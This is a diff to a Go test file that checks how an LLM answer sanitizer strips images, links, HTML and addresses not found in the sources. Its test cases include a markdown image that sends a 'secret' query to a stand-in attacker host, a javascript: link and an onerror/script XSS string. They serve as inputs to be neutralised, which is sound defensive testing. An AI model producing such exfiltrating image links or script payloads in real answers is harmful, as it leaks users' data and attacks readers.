@@ -160,17 +160,18 @@ func TestAnswer(t *testing.T) {
 		{"as it is", "A volume keeps data [Source 1]. Use tar [Source 1][Source 2]. [Source 9]", llm.FinishStop, "A volume keeps data [Source 1]. Use tar [Source 1][Source 2]. [Source 9]", false},
 		{"cut by its limit", "A volume keeps the data of a container [Source 1]. Back it u", llm.FinishLength, "A volume keeps the data of a container [Source 1].", false},
 		{"image", "See ![volume](https://evil.test/?q=secret) [Source 1].", llm.FinishStop, "See volume [Source 1].", false},
-		{"link", "Read [the page](https://docs.test/a) and [this](javascript:alert(1)).", llm.FinishStop, "Read the page https://docs.test/a and this).", false},
+		{"link", "Read [the page](https://docs.test/a) and [this](javascript:alert(1)).", llm.FinishStop, "Read the page (address left out: no source has it) and this).", false},
 		{"reference", "See ![a][1] and [b][1].\n\n[1]: https://evil.test/x.png", llm.FinishStop, "See a and b.", false},
 		{"HTML", `Hi <img src=x onerror=alert(1)><script>x</script> \<b>`, llm.FinishStop, `Hi \<img src=x onerror=alert(1)>\<script>x\</script> \<b>`, false},
-		{"nested", "[![x](https://evil.test/i.png)](https://evil.test/)", llm.FinishStop, "x https://evil.test/", false},
+		{"nested", "[![x](https://evil.test/i.png)](https://evil.test/)", llm.FinishStop, "x (address left out: no source has it)", false},
+		{"known address", "See [it](https://wiki.test/volume), `https://wiki.test`. Write to a@evil.test.", llm.FinishStop, "See it `https://wiki.test/volume`, `https://wiki.test`. Write to (address left out: no source has it).", false},
 		{"code stays", "Write:\n```html\n<b>![x](y)</b>\n```", llm.FinishStop, "Write:\n```html\n<b>![x](y)</b>\n```", false},
 		{"refusal", "I don’t have enough information to answer that question.", llm.FinishStop, "I don't have enough information to answer that question.", true},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			chat := &replying{text: tt.reply, finish: tt.finish}
 			got, err := model.NewAnswerer(chat, vocabulary(page), prompts.SystemTemplate{}, model.Options{}).Answer(t.Context(), state.Task{
-				Question: "What is a volume?", Language: "en", Sources: sources(),
+				Question: "What is a volume? See https://wiki.test/volume", Language: "en", Sources: sources(),
 				Messages: []state.Message{{Role: state.Human, Content: "Hi"}, {Role: state.AI, Content: "Hello. [Source 3]"}, {Role: state.Human, Content: "What is a volume?"}},
 			})
 			if err != nil {
